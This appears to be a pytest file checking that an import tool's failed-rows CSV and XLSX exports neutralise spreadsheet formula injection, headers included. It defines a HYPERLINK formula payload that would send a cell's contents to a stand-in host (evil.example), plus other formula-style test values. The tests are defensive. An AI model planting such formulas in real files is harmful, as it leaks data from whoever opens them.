"""Formula injection through headers (issue 11, item 3): every cell written to a CSV or XLSX goes through one guard.

Before: a file column named ``=HYPERLINK(...)`` was written raw into the failed-rows CSV's header row and
became a live formula cell in the XLSX (openpyxl takes any text starting with ``=`` for a formula). Now
the header row goes through the same guard as the cells (a leading ``'``), every text in a workbook is a
string cell, never a formula, and ``row_number`` is a number.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from imports.import_templates import template
from mtc.cell_guard import xlsx_cells
from tests.imports.engine.job_runs import VARIANT_HEADER
from tests.imports.hostile.files import as_format, post_file
from tests.imports.management.cli import run

pytestmark = [pytest.mark.usefixtures("import_env"), pytest.mark.django_db]

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"click")'
HEADER = (*VARIANT_HEADER, EVIL)
ROWS = [("Shirt", "Soft", "Red", "M", "S-1", "-1", "1", "@SUM(1)"), ("+Shirt", "=2+2", "Red", "L", "S-2", "x", "1", "")]
GUARDED_HEADER = [*VARIANT_HEADER, "'" + EVIL, "row_number", "line_number", "error"]


@pytest.fixture
def failed_job(api) -> int:
    response = post_file(api, as_format("csv", HEADER, ROWS), "csv")
    assert response.json()["failed"] == 2, response.json()
    return response.json()["import_id"]


def _export(api, job_id: int, fmt: str) -> bytes:
    return b"".join(api.get(f"/api/imports/{job_id}/errors/?format={fmt}").streaming_content)


def _formula_cells(workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_the_failed_rows_csv_guards_the_header_row_too(api, failed_job):
    rows = list(csv.reader(io.StringIO(_export(api, failed_job, "csv").decode())))

    assert rows[0] == GUARDED_HEADER
    assert rows[1][-4:-1] == ["'@SUM(1)", "1", "2"]
    assert rows[2][:2] == ["'+Shirt", "'=2+2"]


def test_the_failed_rows_xlsx_has_no_formula_cell_and_a_numeric_row_number(api, failed_job):
    workbook = openpyxl.load_workbook(io.BytesIO(_export(api, failed_job, "xlsx")))  # formulas as written
    sheet = workbook.active

    assert _formula_cells(workbook) == []
    assert [cell.value for cell in sheet[1]] == GUARDED_HEADER
    texts = [cell for row in sheet.iter_rows(max_col=len(HEADER)) for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in texts} == {"s"}
    assert [(cell.value, cell.data_type) for cell in sheet[2][5:7]] == [(-1, "n"), (1, "n")]  # price, stock: typed
    assert [(cell.value, cell.data_type) for cell in sheet["I"][1:]] == [(1, "n"), (2, "n")]
    assert [(cell.value, cell.data_type) for cell in sheet["J"][1:]] == [(2, "n"), (3, "n")]  # line_number
    assert sheet["B3"].value == "'=2+2"


def test_the_import_errors_command_writes_the_same_guarded_header(api, failed_job, tmp_path):
    target = tmp_path / "failed.xlsx"
    assert run("import_errors", failed_job, "--format", "xlsx", "-o", target)[0] == 0
    code, out, _ = run("import_errors", failed_job)

    assert code == 0
    assert next(csv.reader(io.StringIO(out))) == GUARDED_HEADER
    workbook = openpyxl.load_workbook(target)
    assert _formula_cells(workbook) == []
    assert workbook.active["H1"].value == "'" + EVIL


@pytest.mark.parametrize("kind", ["variants", "items"])
def test_templates_hold_no_formula_cell(kind):
    content, _, _ = template(kind=kind, file_format="xlsx")

    assert _formula_cells(openpyxl.load_workbook(io.BytesIO(content))) == []


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_writes_text_as_strings_and_numbers_as_numbers(write_only, tmp_path):
    """Every text a string cell; the "'" only on text that would be a formula (issue 15)."""
    workbook = openpyxl.Workbook(write_only=write_only)
    sheet = workbook.create_sheet("S") if write_only else workbook.active
    sheet.append(xlsx_cells(sheet, ["=1+1", "-3", 7, 2.5, None, "plain"]))
    workbook.save(tmp_path / "cells.xlsx")

    cells = next(openpyxl.load_workbook(tmp_path / "cells.xlsx").worksheets[0].iter_rows())
    assert [(cell.value, cell.data_type) for cell in cells] == [
        ("'=1+1", "s"),
        ("-3", "s"),  # a plain number written as text: never a formula, no visible "'"
        (7, "n"),
        (2.5, "n"),
        (None, "n"),
        ("plain", "s"),
    ]
